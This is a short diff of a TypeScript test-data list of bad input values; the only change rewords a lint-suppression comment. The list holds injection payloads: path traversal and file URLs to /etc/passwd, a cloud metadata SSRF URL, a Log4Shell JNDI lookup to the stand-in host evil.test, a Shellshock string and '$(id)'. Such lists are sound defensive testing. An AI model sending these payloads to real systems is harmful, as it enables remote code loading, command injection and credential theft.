@@ -48,7 +48,7 @@ export const BAD_VALUES: readonly unknown[] = [
   '/etc/passwd\u0000.pdf',
   'file:///etc/passwd',
   'http://169.254.169.254/latest/meta-data/',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JNDI lookup
   '${jndi:ldap://evil.test/a}',
   '() { :; }; echo x',
   '$(id)',
